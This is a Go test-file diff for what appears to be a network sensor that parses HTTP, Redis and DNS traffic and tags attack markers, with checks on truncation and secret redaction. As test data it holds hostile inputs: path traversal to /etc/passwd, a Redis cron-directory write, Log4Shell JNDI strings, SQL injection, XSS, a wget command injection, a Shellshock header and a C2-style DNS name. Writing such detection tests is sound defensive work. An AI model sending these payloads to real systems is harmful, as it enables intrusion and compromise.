@@ -202,3 +202,137 @@ func (p *panicking) Parse(dir protocols.Dir, data []byte, at int64) (int, error)
 	}
 	return p.Parser.Parse(dir, data, at)
 }
+
+// TestLeadingLineBreaksHideNoRequest: nginx skips any number of them, Redis and memcached skip empty lines.
+func TestLeadingLineBreaksHideNoRequest(t *testing.T) {
+	const request, response = "GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
+	for _, breaks := range []string{"\r\n", strings.Repeat("\r\n", 40), strings.Repeat("\r\n", 3000), strings.Repeat("\n", 20000)} {
+		for _, port := range []uint16{80, 9000} {
+			told(t, dialogue(port, ">"+breaks+request, "<"+response), `url.original="/../../etc/passwd"`)
+			told(t, dialogue(port, ">"+breaks, ">"+request, "<"+response), `url.original="/../../etc/passwd"`)
+		}
+		told(t, dialogue(6379, ">"+breaks+cronWrite[1:], "<+OK\r\n"), cronWriteEvent, cronWriteArgs)
+	}
+}
+
+// TestRequestLineMayHaveAnyWhiteSpace: Python's http.server splits it at these.
+func TestRequestLineMayHaveAnyWhiteSpace(t *testing.T) {
+	const response = "<HTTP/1.0 404 File not found\r\nConnection: close\r\n\r\n"
+	for _, space := range []string{"\t", "\v", "\f", " \t ", "\x1c", "\x1d", "\x1e", "\x1f", "\x85", "\xa0"} {
+		for _, port := range []uint16{8000, 9000} {
+			line := ">GET" + space + "/../../etc/passwd" + space + "HTTP/1.1\r\nHost: x\r\n\r\n"
+			told(t, dialogue(port, line, response), `url.original="/../../etc/passwd"`, `http.request.method="GET"`)
+		}
+	}
+	// One byte a segment, on a port of no protocol.
+	told(t, dialogue(9000, ">GET /"+strings.Repeat("a", 1500)+"/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", response), `/../../etc/passwd"`)
+}
+
+// TestOddQueriesAreTold: on the port of DNS whatever has a readable header is an event.
+func TestOddQueriesAreTold(t *testing.T) {
+	header := func(questions, additional byte) string {
+		return "\x12\x34\x01\x00\x00" + string([]byte{questions}) + "\x00\x00\x00\x00\x00" + string([]byte{additional})
+	}
+	const name = "\x02c2\x04evil\x07example\x00"
+	check := func(query string, want ...string) {
+		t.Helper()
+		conversation := dialogue(53, ">"+query)
+		conversation.UDP = true
+		told(t, conversation, want...)
+		framed := string([]byte{byte(len(query) >> 8), byte(len(query))}) + query
+		plain := header(1, 0) + "\x01a\x00\x00\x01\x00\x01"
+		told(t, dialogue(53, ">\x00"+string([]byte{byte(len(plain))})+plain, ">"+framed), want...)
+	}
+	const told = `dns.question.name="c2.evil.example"`
+	check(header(17, 0)+strings.Repeat(name+"\x00\x01\x00\x01", 17), told, "event.partial=true")
+	check(header(1, 0)+name+"\x00\x00\x00\x01", told)
+	check(header(1, 0)+name+"\x03\xe8\x00\x01", told)
+	check(header(1, 0)+name+"\x00\x01\x00\x07", told)
+	check(header(1, 0)+strings.Repeat("\xff", 30), "event.partial=true")
+
+	// The name of the question lies behind it, in the data of an OPT record.
+	check(header(1, 1)+"\xc0\x1d\x00\x01\x00\x01"+"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00"+string([]byte{byte(len(name))})+name, told)
+}
+
+// TestAnswerWithoutRequestIsPartial: its request was not captured, or not recognised.
+func TestAnswerWithoutRequestIsPartial(t *testing.T) {
+	told(t, dialogue(80, "<HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"), `event.partial=true`)
+	told(t, dialogue(6379, "<-NOAUTH Authentication required.\r\n"), `event.partial=true`)
+}
+
+// TestPaddingHidesNothing: the head and the tail of what is too long are kept, and the event says so.
+func TestPaddingHidesNothing(t *testing.T) {
+	const truncated = `tags=["truncated"]`
+	for _, size := range []int{9000, 60_000} {
+		padding := strings.Repeat("a", size)
+		told(t, dialogue(80, ">GET /?p="+padding+"&x=../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n"),
+			`&x=../../../../etc/passwd"`, truncated, `"url:traversal" "url:system_file"`)
+		// In the middle: the forms of attacks are looked for in all of it.
+		told(t, dialogue(80, ">GET /?p="+padding[:size/2]+"&x=../../../../etc/passwd&y="+padding[:size/2]+" HTTP/1.1\r\nHost: x\r\n\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n"),
+			truncated, `"url:traversal" "url:system_file"`)
+		told(t, dialogue(80, ">GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: "+padding+" sqlmap/1.0\r\n\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n"),
+			` sqlmap/1.0"`, truncated)
+		value := ">*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$" + fmt.Sprint(2*size+4) + "\r\n" + padding + padding + "\nssh\r\n"
+		told(t, dialogue(6379, value, "<+OK\r\n"), `\nssh`, truncated)
+	}
+	// A secret that the cut goes through stays hidden.
+	for size := 5900; size < 8400; size += 97 {
+		conversation := dialogue(80, ">GET /?p="+strings.Repeat("a", size)+"&token="+strings.Repeat("hunter2", 400)+"&z HTTP/1.1\r\nHost: x\r\n\r\n",
+			"<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")
+		if events, _ := conversation.Play(Protocols); len(events) != 1 || strings.Contains(events[0], "unter") {
+			t.Fatalf("%d: %s", size, shortened(strings.Join(events, "\n")))
+		}
+	}
+}
+
+// TestManyPairsHideNoSetting: of CONFIG SET every name is looked at.
+func TestManyPairsHideNoSetting(t *testing.T) {
+	for before := range 40 {
+		for _, after := range []int{0, 1, 2, 30} {
+			words := []string{"CONFIG", "SET"}
+			for i := range before {
+				words = append(words, fmt.Sprintf("name-%d", i), "x")
+			}
+			words = append(words, "Dir", "/var/spool/cron")
+			for i := range after {
+				words = append(words, fmt.Sprintf("more-%d", i), "x")
+			}
+			line := fmt.Sprintf(">*%d\r\n", len(words))
+			for _, word := range words {
+				line += fmt.Sprintf("$%d\r\n%s\r\n", len(word), word)
+			}
+			wants := []string{`"Dir" "/var/spool/cron"`}
+			if before+after > 8 {
+				wants = append(wants, `tags=["truncated"]`)
+			}
+			told(t, dialogue(6379, line, "<+OK\r\n"), wants...)
+		}
+	}
+}
+
+// TestRedactionHidesNoAttack: the value of a parameter named like a secret is hidden, the form of an attack in it is
+// not. Of header fields no value is kept.
+func TestRedactionHidesNoAttack(t *testing.T) {
+	check := func(target, header string, wants ...string) {
+		t.Helper()
+		conversation := dialogue(80, ">GET "+target+" HTTP/1.1\r\nHost: x\r\n"+header+"\r\n", "<HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")
+		told(t, conversation, wants...)
+		events, _ := conversation.Play(Protocols)
+		if strings.Contains(strings.Join(events, ""), "hunter2") {
+			t.Errorf("a secret is in %s", events)
+		}
+	}
+	for _, name := range []string{"key", "token", "password", "code", "session"} {
+		check("/?"+name+"=../../../../etc/passwd", "", `http.request.markers=["url:traversal" "url:system_file"]`)
+		check("/?"+name+"=%252e%252e%252Fetc%252fpasswd", "", `http.request.markers=["url:traversal" "url:system_file"]`)
+		check("/?"+name+"=$%7Bjndi:ldap://x/a}", "", `http.request.markers=["url:jndi"]`)
+		check("/?"+name+"=x'+UNION+SELECT+hunter2", "", `http.request.markers=["url:sql"]`)
+		check("/?"+name+"=%3CScript%3Ealert(1)", "", `http.request.markers=["url:script"]`)
+		check("/?"+name+"=1;wget+http://x/hunter2", "", `http.request.markers=["url:shell"]`)
+		check("/?"+name+"=hunter2", "", `url.original="/?`+name+`=REDACTED"`)
+	}
+	check("/", "X-Api-Version: ${jndi:ldap://x/hunter2}\r\n", `http.request.markers=["x-api-version:jndi"]`)
+	check("/", "Cookie: a=hunter2; b=%24%7bjndi:ldap://x}\r\n", `http.request.markers=["cookie:jndi"]`)
+	check("/", "Accept: ${${lower:j}ndi:ldap://x}\r\nX-Forwarded-Host: <script>alert(1)</script>\r\n", `http.request.markers=["accept:jndi" "x-forwarded-host:script"]`)
+	check("/", "X-A: b\r\n () { :; }; /bin/id\r\n", `http.request.markers=["x-a:shell"]`)
+}
